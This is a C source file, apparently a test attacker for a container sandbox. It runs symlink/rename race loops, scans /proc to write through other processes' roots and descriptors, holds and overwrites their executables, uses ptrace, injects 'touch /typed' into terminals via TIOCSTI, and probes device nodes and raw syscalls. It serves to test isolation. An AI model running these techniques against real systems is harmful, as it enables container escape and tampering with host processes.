/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * What a hostile program in a container does, in C because a shell is too slow to win a race.
 *
 *   attack swap PATH LINK...   PATH and links to each LINK change places for ever (PATH/ for a
 *                              directory, otherwise a file), one process for each processor
 *   attack plant PATH TARGET   as soon as PATH is made, a link to TARGET takes its place, for ever
 *   attack snoop FILE [loose]  look at and into every other process for ever; whatever should not
 *                              be seen is a line in FILE.  loose: others may hold more than we
 *   attack fds                 the descriptors of its own, one a line
 *   attack tty                 try to type into every terminal it can reach
 *   attack device TYPE MAJOR MINOR   which of mknod, read and write the control group lets it:
 * "mrw" attack call NUMBER ARG...  what a system call says; "i386" before the number: by int 0x80
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define CANARY "run/mybox-test/canary/console"

/* ---- swap ---- */

static void on_each_processor(void)
{
	for (int cpu = 0; cpu < 2; cpu++) {
		cpu_set_t set;

		CPU_ZERO(&set);
		CPU_SET(cpu, &set);
		sched_setaffinity(0, sizeof(set), &set);
		if (cpu == 0 && fork() == 0)
			continue;
		return;
	}
}

static int swap(int n, char **v)
{
	size_t len = strlen(v[0]);
	char *path = strdup(v[0]);
	bool is_dir = path[len - 1] == '/';
	char link[16][512];

	if (is_dir) {
		path[len - 1] = '\0';
		mkdir(path, 0755);
	} else {
		close(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
	}
	if (n > 17)
		return 2;
	for (int i = 1; i < n; i++) {
		snprintf(link[i - 1], sizeof(link[0]), "%s.link%d", path, i);
		if (symlink(v[i], link[i - 1]) < 0 && errno != EEXIST)
			return 2;
	}
	puts("swapping");
	fflush(stdout);
	on_each_processor();
	for (;;) {
		for (int i = 0; i + 1 < n; i++) {
			for (int twice = 0; twice < 2; twice++)
				syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, link[i], 2);
		}
	}
}

/* ---- plant ---- */

static int plant(const char *path, const char *target)
{
	char link[512];
	struct stat st;

	snprintf(link, sizeof(link), "%s.planted", path);
	puts("planting");
	fflush(stdout);
	for (;;) {
		if (symlink(target, link) < 0 && errno != EEXIST)
			return 2;
		while (lstat(path, &st) < 0)
			;
		rename(link, path);
		unlink(path);
	}
}

/* ---- snoop ---- */

static int found = -1; /* the file */

static void tell(const char *what, const char *pid, const char *detail)
{
	char line[1200];
	int n = snprintf(line, sizeof(line), "%s %s %.1000s\n", what, pid, detail);

	(void)!write(found, line, (size_t)n);
}

static int read_text(const char *pid, const char *name, char *buf, size_t size)
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/%.20s", pid, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	if (n < 0)
		return -1;
	buf[n] = '\0';
	return (int)n;
}

static unsigned long long field(const char *status, const char *name)
{
	const char *at = strstr(status, name);

	return at ? strtoull(at + strlen(name), NULL, name[0] == 'C' ? 16 : 10) : ~0ull;
}

static const char *first_line(char *text)
{
	text[strcspn(text, "\n")] = '\0';
	return text;
}

/* Nobody in here may hold more, or be filtered less, than we are. */
static void look_at_status(const char *pid, unsigned long long bound, bool filtered)
{
	char status[4096];

	if (read_text(pid, "status", status, sizeof(status)) <= 0 || strstr(status, "State:\tZ"))
		return;
	if (field(status, "CapPrm:\t") & ~bound || field(status, "CapInh:\t"))
		tell("more capabilities", pid, first_line(status));
	else if (filtered && strstr(status, "\nSeccomp:\t0"))
		tell("no filter", pid, first_line(status));
}

static void look_at_link(const char *pid, const char *name)
{
	char path[96], target[512];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%.20s/%.20s", pid, name);
	n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return;
	target[n] = '\0';
	if (strstr(target, "mybox-test") || strstr(target, "monitor.sock"))
		tell(name, pid, target);
}

static void look_at_fds(const char *pid)
{
	char name[32];

	for (int i = 0; i < 64; i++) {
		snprintf(name, sizeof(name), "fd/%d", i);
		look_at_link(pid, name);
	}
	look_at_link(pid, "cwd");
	look_at_link(pid, "root");
}

/* Through the root and the directories of another. */
static void write_through(const char *pid)
{
	static const char *const ways[] = {"root/", "cwd/", "cwd/../../../../../", "fd/3/", "fd/4/",
	                                   "fd/5/", "fd/6/"};
	char path[128];

	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/%s" CANARY, pid, ways[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		(void)!write(fd, "reached", 7);
		close(fd);
		tell("reached the host", pid, ways[i]);
	}
}

/* Executables are held, because they can be written to once nobody executes them any more. */
enum { HELD = 32 };
static int held[HELD];
static struct stat own, shell;

static bool is_known(const struct stat *st)
{
	return (st->st_ino == own.st_ino && st->st_dev == own.st_dev) ||
	       (st->st_ino == shell.st_ino && st->st_dev == shell.st_dev);
}

static void write_to(int i)
{
	char path[64], target[512];
	ssize_t n;
	int fd;

	if (held[i] < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
	fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return;
	n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	n = write(fd, "overwritten", 11);
	close(fd);
	/* Another container's shell is not the host's, and of a neighbour's rank. */
	if (n > 0 && strcmp(target, "/bin/busybox") != 0)
		tell("overwritten", "-", target);
}

static void take_exe(const char *pid, unsigned turn)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || is_known(&st)) {
		close(fd);
		return;
	}
	if (held[turn % HELD] >= 0)
		close(held[turn % HELD]);
	held[turn % HELD] = fd;
}

static void look_at_environment(const char *pid)
{
	char text[8192];
	int n = read_text(pid, "environ", text, sizeof(text));

	if (n > 0 && memmem(text, (size_t)n, "of-the-caller", 13))
		tell("environment", pid, "of the caller");
}

/* Where tracing is allowed it must win nothing: what is traced writes where it may only. */
static void trace(const char *pid)
{
	pid_t child = fork();

	if (child == 0) {
		if (ptrace(PTRACE_SEIZE, (pid_t)strtol(pid, NULL, 10), 0, 0) == 0) {
			write_through(pid);
			look_at_fds(pid);
		}
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static int snoop(int n, char **v)
{
	bool loose = n > 1 && strcmp(v[1], "loose") == 0, filtered;
	unsigned long long bound;
	char status[4096];

	found = open(v[0], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (found < 0 || read_text("self", "status", status, sizeof(status)) < 0)
		return 2;
	bound = field(status, "CapBnd:\t");
	filtered = strstr(status, "\nSeccomp:\t2") != NULL;
	stat("/proc/self/exe", &own);
	stat("/bin/busybox", &shell);
	memset(held, -1, sizeof(held));
	puts("snooping");
	fflush(stdout);
	on_each_processor();
	for (unsigned turn = 0;; turn++) {
		DIR *dir = opendir("/proc");
		struct dirent *e;

		while (dir && (e = readdir(dir))) {
			if (!isdigit((unsigned char)e->d_name[0]))
				continue;
			if (!loose)
				look_at_status(e->d_name, bound, filtered);
			if (strtol(e->d_name, NULL, 10) == getpid())
				continue;
			take_exe(e->d_name, turn++);
			write_through(e->d_name);
			look_at_fds(e->d_name);
			look_at_environment(e->d_name);
			if (turn % 8 == 0 && strcmp(e->d_name, "1") != 0)
				trace(e->d_name);
		}
		if (dir)
			closedir(dir);
		for (int i = 0; i < HELD; i++)
			write_to(i);
	}
}

/* ---- small ones ---- */

static int fds(void)
{
	for (int i = 0; i < 4096; i++) {
		if (fcntl(i, F_GETFD) >= 0)
			printf("%d\n", i);
	}
	return 0;
}

static int tty(void)
{
	static const char *const names[] = {"/dev/tty", "/dev/console", "/dev/pts/0", "/dev/stdin"};
	const char text[] = "touch /typed\n";
	char lines[16] = {3};

	for (int i = 0; i < 7; i++) {
		int fd = i < 3 ? i : open(names[i - 3], O_RDWR | O_CLOEXEC);

		for (size_t k = 0; fd >= 0 && k < sizeof(text) - 1; k++)
			ioctl(fd, TIOCSTI, &text[k]);
		if (fd >= 0)
			ioctl(fd, TIOCLINUX, lines);
		if (fd > 2)
			close(fd);
	}
	return 0;
}

static int device(char **v)
{
	dev_t number = makedev(strtoul(v[1], NULL, 10), strtoul(v[2], NULL, 10));
	mode_t type = v[0][0] == 'b' ? S_IFBLK : S_IFCHR;
	char says[4] = "---";
	const int flags = O_NONBLOCK | O_NOCTTY | O_CLOEXEC;

	unlink("/node");
	if (mknod("/node", type | 0600, number) < 0)
		return puts(says) < 0;
	says[0] = 'm';
	/* Whether there is such a device is another question. */
	if (open("/node", O_RDONLY | flags) >= 0 || errno != EPERM)
		says[1] = 'r';
	if (open("/node", O_WRONLY | flags) >= 0 || errno != EPERM)
		says[2] = 'w';
	unlink("/node");
	puts(says);
	return 0;
}

static long by_int80(const long *a)
{
	long r = a[0];

#if defined(__x86_64__)
	__asm__ volatile("int $0x80"
	                 : "+a"(r)
	                 : "b"(a[1]), "c"(a[2]), "d"(a[3])
	                 : "memory", "r8", "r9", "r10", "r11");
#else
	r = -ENOSYS;
#endif
	return r;
}

static int call(int n, char **v)
{
	bool i386 = strcmp(v[0], "i386") == 0;
	long a[7] = {0}, r;

	for (int i = i386; i < n && i - i386 < 7; i++)
		a[i - i386] = (long)strtoul(v[i], NULL, 0);
	if (i386) {
		r = by_int80(a);
		errno = r < 0 ? (int)-r : 0;
	} else {
		r = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
	}
	puts(r < 0 ? strerrorname_np(errno) : "OK");
	return 0;
}

int main(int n, char **v)
{
	if (n > 3 && strcmp(v[1], "swap") == 0)
		return swap(n - 2, v + 2);
	if (n == 4 && strcmp(v[1], "plant") == 0)
		return plant(v[2], v[3]);
	if (n > 2 && strcmp(v[1], "snoop") == 0)
		return snoop(n - 2, v + 2);
	if (n == 2 && strcmp(v[1], "fds") == 0)
		return fds();
	if (n == 2 && strcmp(v[1], "tty") == 0)
		return tty();
	if (n == 5 && strcmp(v[1], "device") == 0)
		return device(v + 2);
	if (n > 2 && strcmp(v[1], "call") == 0)
		return call(n - 2, v + 2);
	return 2;
}
